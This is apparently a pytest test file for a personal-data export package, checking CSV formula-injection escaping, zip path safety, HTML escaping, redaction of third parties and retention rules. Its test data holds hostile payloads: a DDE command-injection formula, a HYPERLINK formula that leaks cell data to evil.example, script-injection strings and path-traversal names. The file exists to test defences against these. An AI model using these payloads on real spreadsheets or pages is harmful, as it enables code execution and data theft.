"""The package a person gets: complete, safe to open, without other people, the same for the same data."""

import csv
import io
import itertools
import json
import re
import stat
import tracemalloc
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.privacy.conftest import Desk, exports_of
from tests.still_clock import START
from tillit.clock import DAY, rfc3339
from tillit.errors import NotFound
from tillit.privacy import Dossier, Packed, check_package, write_package
from tillit.privacy.package import Own, Redactor
from tillit.privacy.package.page import MOST_SHOWN
from tillit.records import plain_cell, safe_cell
from tillit.workspace.exports import KEPT, Others, forget_exports

SAID = {"at": "2026-03-01T09:00:00Z", "source": "shop", "event_id": "e1-1", "trust": "server"}
PROFILE: dict[str, Any] = {
    "id": "p0000000000020",
    "identifiers": [
        {
            "namespace": "email",
            "value": "ana@example.org",
            "first_seen_at": None,
            "last_seen_at": None,
            "trust": "server",
        },
        {"namespace": "phone", "value": "+46701234567", "first_seen_at": None, "last_seen_at": None, "trust": "server"},
        {"namespace": "user_id", "value": "ana", "first_seen_at": None, "last_seen_at": None, "trust": "server"},
    ],
    "traits": {"name": {"value": "Ana Ek", **SAID}, "city": {"value": "Umeå", **SAID, "trust": "operator"}},
    "counts": {"Order Completed": 3},
    "types": {"track": 3},
    "n_events": 3,
    "first_seen_at": "2026-03-01T09:00:00Z",
    "last_seen_at": "2026-03-02T10:15:00Z",
    "groups": [{"group": "household:h1", "kind": "household", "name": "Ek", "role": "child", **SAID}],
    "facts": {
        "deceased": None,
        "minor": True,
        "guardians": [{"profile_id": "p0000000000040", "group": "household:h1"}],
    },
}
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "|calc",
    "%1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "｜calc",
    "﹦1",
    "﹢1",
    "−1",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "'=1",
    "''",
]
HOSTILE = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "{{ 7*7 }}{% raw %}",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    "javascript:alert(1)",
    "abc\u202egnp.exe",
    "\u2066\u2069\u061c",
    "\u0000\u0001\u001b[31m",
    "שלום <b>",
    "../../etc/passwd",
    "CON.txt",
    "a" * 5_000,
]


def event(n: int, **fields: Any) -> dict[str, Any]:
    return {
        "event_id": f"e1-{n}",
        "message_id": f"m-{n}",
        "type": "track",
        "name": "Order Completed",
        "event_at": "2026-03-02T10:15:00Z",
        "received_at": "2026-03-02T10:15:01Z",
        "source": "shop",
        "properties": {"total": 49.9},
        "trust": "server",
        **fields,
    }


def dossier(**fields: Any) -> Dossier:
    told = {
        "kind": "access",
        "request_id": "r1",
        "made_at": START,
        "profile": PROFILE,
        "profile_ids": ["p0000000000020"],
        "events": [event(1)],
    }
    return Dossier(**{**told, **fields})


def packed(folder: Path, **fields: Any) -> tuple[zipfile.ZipFile, Packed]:
    target = io.BytesIO()
    told = write_package(target, dossier(**fields), scratch=folder)
    assert check_package(target) == []
    return zipfile.ZipFile(target), told


def table(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    text = archive.read(f"tables/{name}.csv").decode()
    rows = [[plain_cell(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


class Page(HTMLParser):
    """Reads a page as a browser does: its elements, their attributes, their text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()
        self.cells: list[str] = []
        self.depth: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name in {"href", "src", "action"}}
        self.depth.append(tag)
        if tag == "bdi":
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        while self.depth and self.depth.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        if "bdi" in self.depth:
            self.cells[-1] += data


# -- cells


@pytest.mark.parametrize("text", FORMULAS)
def test_case_60_no_cell_is_a_formula(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    assert plain_cell(safe_cell(text)) == text


@given(st.text())
def test_a_cell_comes_back_exactly(text: str) -> None:
    written = safe_cell(text)

    assert plain_cell(written) == text
    assert not written.lstrip().startswith(("=", "+", "-", "@", "|", "＝", "＋", "－", "＠", "｜"))
    assert not written.startswith(("\t", "\r", "\n"))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_case_60_nothing_breaks_out_of_its_cell(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    events = [event(n, name=text, properties={text: text}) for n, text in enumerate(texts)]

    archive, _ = packed(tmp_path_factory.getbasetemp(), events=events)

    own = Redactor(Own.of(PROFILE, []))
    assert [one["name"] for one in table(archive, "events")] == [own.named("events", "name", text) for text in texts]
    assert [one["event_id"] for one in table(archive, "events")] == [f"e1-{n}" for n in range(len(texts))]


def test_case_60_every_cell_of_every_table_is_safe(tmp_path: Path) -> None:
    traits = {text: {"value": text, **SAID, "source": text} for text in FORMULAS}
    groups = [{"group": text, "name": text} for text in FORMULAS]
    events = [event(n, name=text, source=text, properties=text) for n, text in enumerate(FORMULAS)]

    archive, told = packed(tmp_path, profile={**PROFILE, "traits": traits, "groups": groups}, events=events)

    for name in told.n_rows:
        raw = archive.read(f"tables/{name}.csv").decode()
        for row in csv.reader(io.StringIO(raw, newline="")):
            assert all(safe_cell(plain_cell(cell)) == cell for cell in row)
    assert [one["value"] for one in table(archive, "traits")] == FORMULAS


# -- names in the zip


def test_case_61_no_name_in_the_zip_comes_from_data(tmp_path: Path) -> None:
    names = ["../../etc/passwd", "C:\\windows\\x", "/abs", "CON", "a" * 999, "x\0y", "..\\..\\x"]
    profile = {**PROFILE, "traits": {name: {"value": name, **SAID} for name in names}}
    rows = [{"purpose": name, "recipient_entity": name, name: name} for name in names]

    archive, _ = packed(
        tmp_path,
        profile=profile,
        events=[event(n, name=name, source=name) for n, name in enumerate(names)],
        consent=rows,
        purposes=rows,
        disclosures=rows,
        accesses=rows,
        staff_words=rows,
    )

    assert all(
        re.fullmatch(r"(tables/[a-z_]{1,20}\.csv|[A-Za-z]{1,20}\.(json|html|txt))", n) for n in archive.namelist()
    )
    assert len(set(archive.namelist())) == len(archive.namelist()) == 15
    assert {(one.external_attr >> 16) & 0o777 for one in archive.infolist()} == {0o600}
    archive.extractall(tmp_path / "out")
    assert {path.relative_to(tmp_path / "out").parts[0] for path in (tmp_path / "out").rglob("*")} == {
        "README.txt",
        "contents.json",
        "data.json",
        "index.html",
        "tables",
    }


# -- the page


def test_case_59_a_hostile_value_is_text_on_the_page(tmp_path: Path) -> None:
    profile = {**PROFILE, "traits": {text: {"value": text, **SAID, "source": text} for text in HOSTILE}}
    events = [event(n, name=text, source=text, properties={text: [text]}) for n, text in enumerate(HOSTILE)]

    archive, _ = packed(tmp_path, profile=profile, events=events, consent=[{"purpose": text} for text in HOSTILE])

    text = archive.read("index.html").decode()
    page = Page(text)
    assert not page.tags & {"script", "img", "iframe", "object", "embed", "link", "form", "b", "base", "svg"}
    assert not [one for one in page.attributes if one.startswith("on") or one == "style"]
    assert all(one.startswith("#") for one in page.links)
    assert "http" not in text.replace('http-equiv="Content-Security-Policy"', "")
    assert "<script>alert(1)</script>" in page.cells
    assert "abc[U+202E]gnp.exe" in page.cells
    assert not re.search("[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069]", text)


def test_the_page_stands_by_itself(tmp_path: Path) -> None:
    archive, _ = packed(tmp_path)

    text = archive.read("index.html").decode()

    assert "default-src 'none'; style-src 'sha256-" in text
    assert "prefers-color-scheme: dark" in text
    assert "@media print" in text
    assert '<html lang="en">' in text
    assert "url(" not in text
    assert "@import" not in text


# -- what is in it


def test_access_has_everything_about_the_person(tmp_path: Path) -> None:
    archive, told = packed(
        tmp_path,
        consent=[{"purpose": "ads", "state": "refused", "notice": "n-2"}],
        purposes=[{"name": "ads", "basis": "consent", "retention": "P1Y", "recipients": ["ads.example"]}],
        disclosures=[{"at": "2026-03-02T10:15:00Z", "recipient": "mailer", "purpose": "service", "leaf": 7}],
        accesses=[{"at": "2026-03-02T10:15:00Z", "role": "support", "actor_id": "op_7", "route": "profile"}],
        staff_words=[{"at": "2026-03-02T10:15:00Z", "type": "note", "text": "She asked for a refund."}],
    )

    data = json.loads(archive.read("data.json"))
    assert told.n_rows == {
        "identifiers": 3,
        "traits": 2,
        "facts": 8,
        "groups": 1,
        "consent": 1,
        "purposes": 1,
        "disclosures": 1,
        "accesses": 1,
        "events": 1,
        "staff_words": 1,
        "sources": 1,
    }
    assert {name: len(rows) for name, rows in data.items() if name in told.n_rows} == told.n_rows
    assert data["purposes"][0]["retention"] == "P1Y"
    assert data["sources"] == [{"source": "shop", "n_events": 1}]
    assert data["accesses"] == [
        {"at": "2026-03-02T10:15:00Z", "role": "support", "actor_id": "[withheld: a colleague]", "route": "profile"}
    ]
    assert data["about"]["rights"].keys() >= {"Erasure", "Objection", "Complaint"}
    # What a row says beyond our columns stands in the table, too.
    assert json.loads(table(archive, "disclosures")[0]["more"]) == {"leaf": 7}


def test_portability_has_what_was_given_and_observed_and_nothing_that_was_concluded(tmp_path: Path) -> None:
    archive, told = packed(
        tmp_path,
        kind="portability",
        events=[event(1), event(2, type="group_join", trust="operator")],
        staff_words=[{"text": "MARK a note"}],
        disclosures=[{"recipient": "MARK mailer"}],
        purposes=[{"name": "MARK"}],
    )

    data = json.loads(archive.read("data.json"))
    assert {*told.n_rows} == {"identifiers", "traits", "consent", "events"}
    assert [one["name"] for one in data["traits"]] == ["name"]
    assert [one["event_id"] for one in data["events"]] == ["e1-1"]
    whole = b"".join(archive.read(name) for name in archive.namelist())
    assert b"MARK" not in whole
    assert b"minor" not in whole
    assert b"household:h1" not in whole
    assert b"facts, counts, groups" in archive.read("README.txt")


def test_case_67_other_people_are_not_in_a_package(tmp_path: Path) -> None:
    marks = {"MARK Bo Berg", "mark@example.org", "+46709999999", "p0000000000040", "user-mark"}
    properties = {
        "giftRecipient": {"name": "MARK Bo Berg", "phone": "+46709999999"},
        "gift_to": "MARK Bo Berg",
        "message": "write to mark@example.org, or MARK＠example.org!",
        "deep": [{"mark@example.org": 1, "Guardian-Name": "MARK Bo Berg"}],
        "telephone": "+46709999999",
        "userId": "user-mark",
        "operator": "MARK Bo Berg",
    }
    profile = {**PROFILE, "traits": {"partner": {"value": "MARK Bo Berg", **SAID}}}

    archive, told = packed(tmp_path, profile=profile, events=[event(1, properties=properties)])

    whole = b"".join(archive.read(name) for name in archive.namelist()).decode()
    assert [mark for mark in marks if mark in whole] == []
    assert "MARK" not in whole
    assert sum(one["n"] for one in told.withheld) == 11
    assert {one["table"] for one in told.withheld} == {"events", "facts", "traits"}
    assert "Withheld this time: " in archive.read("README.txt").decode()


def test_what_is_the_persons_own_stays(tmp_path: Path) -> None:
    properties = {
        "recipient": "ana ek",
        "email": "Ana@Example.org",
        "phone": "0046701234567".replace("0046", "+46 "),
        "userId": "ana",
        "children": 3,
        "note": "from ana@example.org",
    }

    archive, told = packed(tmp_path, events=[event(1, properties=properties)])

    assert json.loads(archive.read("data.json"))["events"][0]["properties"] == properties
    assert {one["table"] for one in told.withheld} == {"facts"}


# -- the zip itself


@given(st.lists(st.dictionaries(st.text(max_size=5), st.integers() | st.text(max_size=9)), max_size=4))
def test_the_same_data_make_the_same_bytes(
    tmp_path_factory: pytest.TempPathFactory, properties: list[dict[str, Any]]
) -> None:
    folder = tmp_path_factory.getbasetemp()
    written = []
    for _ in range(2):
        target = io.BytesIO()
        events = (event(n, properties=one) for n, one in enumerate(properties))
        write_package(target, dossier(events=events), scratch=folder)
        written.append(target.getvalue())

    assert written[0] == written[1]


def test_many_events_go_by_without_being_held(tmp_path: Path) -> None:
    n_events = 10_000
    filler = {"text": "x" * 800}

    def events() -> Iterator[dict[str, Any]]:
        for n in range(n_events):
            yield event(n, properties={**filler, "n": n})

    with (tmp_path / "one.zip").open("wb") as file:
        tracemalloc.start()
        told = write_package(file, dossier(events=events()), scratch=tmp_path)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()

    # The events are 20 MB; the page of 500 is a few.
    assert peak < 9_000_000, peak
    assert told.n_rows["events"] == n_events
    with zipfile.ZipFile(tmp_path / "one.zip") as archive, archive.open("data.json") as data:
        assert len(json.load(data)["events"]) == n_events
    page = zipfile.ZipFile(tmp_path / "one.zip").read("index.html").decode()
    assert f"The first {MOST_SHOWN} of {n_events}" in page
    assert [path.name for path in tmp_path.iterdir()] == ["one.zip"]


@pytest.mark.parametrize("spoil", ["truncate", "flip", "foreign", "gone"])
def test_a_spoilt_package_is_found(tmp_path: Path, spoil: str) -> None:
    target = io.BytesIO()
    write_package(target, dossier(events=[event(n) for n in range(99)]), scratch=tmp_path)
    content = bytearray(target.getvalue())
    if spoil == "truncate":
        content = content[: len(content) // 2]
    elif spoil == "flip":
        content[200] ^= 0xFF
    else:
        again = io.BytesIO()
        with zipfile.ZipFile(target) as source, zipfile.ZipFile(again, "w") as copy:
            for name in source.namelist():
                if spoil == "foreign" or name != "tables/events.csv":
                    copy.writestr(name, source.read(name))
            if spoil == "foreign":
                copy.writestr("../evil.txt", b"")
        content = bytearray(again.getvalue())

    assert check_package(io.BytesIO(bytes(content))) != []


# -- from a workspace


def test_a_workspace_gives_what_senders_said_and_what_colleagues_wrote(desk: Desk) -> None:
    desk.ws.profiles.note("user_id:ana", "She asked for a refund.", operator="op_secret")
    desk.ws.flush()

    done = desk.exports.write("email:ana@example.org", "access", request_id="r7")

    with zipfile.ZipFile(done.path) as archive:
        data = json.loads(archive.read("data.json"))
        whole = b"".join(archive.read(name) for name in archive.namelist())
    assert [one["type"] for one in data["events"]] == ["track", "identify"]
    assert data["events"][1]["context"] == {"ip": "192.0.2.0"}  # as the door kept it
    assert [(one["type"], one["text"]) for one in data["staff_words"]] == [("note", "She asked for a refund.")]
    assert b"op_secret" not in whole
    assert b"Bo Berg" not in whole
    assert b"bo@example.org" not in whole
    assert re.fullmatch(r"[0-9a-f]{32}-r7\.zip", done.path.name)


def test_what_other_parts_say_comes_along(desk: Desk) -> None:
    asked: list[list[str]] = []

    def purposes(ids: Any) -> list[dict[str, Any]]:
        asked.append(list(ids))
        return [{"name": "service", "basis": "contract"}]

    done = exports_of(desk.ws, Others(purposes=purposes)).write("user_id:ana", "access")

    assert done.packed.n_rows["purposes"] == 1
    assert done.profile_id in asked[0]


def test_nobody_else_may_enter_and_after_a_week_it_is_gone(desk: Desk) -> None:
    folder = desk.ws.paths.root / "exports"
    old = desk.exports.write("user_id:ana", "access").path
    desk.clock.go_on(DAY)
    new = desk.exports.write("user_id:ana", "access").path
    modes = {stat.S_IMODE(path.stat().st_mode) for path in (old, new)}
    desk.clock.go_on(KEPT - DAY + 1)

    n_gone = forget_exports(folder, before=desk.clock.now() - KEPT)

    assert (stat.S_IMODE(folder.stat().st_mode), modes) == (0o700, {0o600})
    assert n_gone == 1
    assert [*folder.iterdir()] == [new]


def test_a_package_that_broke_off_leaves_nothing(desk: Desk) -> None:
    def broken(ids: Any) -> Iterator[dict[str, Any]]:
        yield {"name": "service"}
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        exports_of(desk.ws, Others(purposes=broken)).write("user_id:ana", "access")

    assert [*(desk.ws.paths.root / "exports").iterdir()] == []


def test_of_nobody_there_is_no_package(desk: Desk) -> None:
    with pytest.raises(NotFound) as refused:
        desk.exports.write("email:nobody@example.org", "access")

    assert "nobody@" not in refused.value.message


def test_pages_of_a_long_history_are_all_there(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tillit.workspace.exports._PAGE", 7)
    at = itertools.count(START - DAY, 1_000_000)
    desk.ws.append(
        [
            {
                "type": "track",
                "userId": "ana",
                "event": "Page Viewed",
                "properties": {"n": n},
                "timestamp": rfc3339(next(at)),
            }
            for n in range(40)
        ]
    )
    desk.ws.flush()

    done = desk.exports.write("user_id:ana", "access")

    with zipfile.ZipFile(done.path) as archive:
        told = json.loads(archive.read("data.json"))["events"]
    assert sorted(one["properties"]["n"] for one in told if one["name"] == "Page Viewed") == [*range(40)]
    assert done.packed.n_rows["events"] == 42
